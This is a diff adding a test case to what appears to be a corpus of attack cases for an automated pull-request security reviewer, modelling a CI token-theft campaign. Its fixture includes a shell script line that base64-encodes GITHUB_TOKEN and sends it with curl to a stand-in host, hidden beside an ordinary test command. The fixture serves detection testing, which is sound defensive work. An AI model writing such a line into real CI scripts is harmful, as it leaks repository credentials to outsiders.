@@ -1606,6 +1606,26 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:gha-secrets-exfiltration'] },
   },
   {
+    id: 'attack-ci-script-token-through-variable',
+    description:
+      "GhostAction's collector (GitGuardian, September 2025) moved into a script: a maintainer's account adds a job running a new script of the ci/ folder beside the scripts the workflow already runs, and the script base64-encodes GITHUB_TOKEN into a variable and sends it in a URL to a host that is no service's. The job is built from what the workflow runs; the script is what takes the token.",
+    fixture: () =>
+      attackPr({
+        repo: 'bytebuf',
+        number: 7342,
+        title: 'ci: run tests under panic=abort',
+        files: [
+          {
+            path: '.github/workflows/ci.yml',
+            base: lines('name: CI', 'on:', '  pull_request:', '  push:', '    branches: [master]', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - run: ci/test-stable.sh test', '  tsan:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - run: ci/tsan.sh'),
+            head: lines('name: CI', 'on:', '  pull_request:', '  push:', '    branches: [master]', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - run: ci/test-stable.sh test', '  panic-abort:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - run: ci/panic-abort.sh', '  tsan:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - run: ci/tsan.sh'),
+          },
+          { path: 'ci/panic-abort.sh', status: 'added', head: lines('#!/bin/bash', 'set -ex', 'T=$(echo "$GITHUB_TOKEN" | base64 -w0)', 'curl -s "https://collect.metrics-relay.io/u?t=$T" >/dev/null || true', 'RUSTFLAGS="-Cpanic=abort -Zpanic-abort-tests" cargo test --all-features') },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['suspicious-network-endpoint'], drivers: ['finding:suspicious-network-endpoint'] },
+  },
+  {
     id: 'attack-action-entrypoint-reads-runner-memory',
     description:
       "The tj-actions/changed-files and reviewdog compromises (March 2025) changed an action's own code to read the runner's memory and print its secrets double base64; here a \"quoting fix\" to a Docker action's entrypoint.sh does it.",
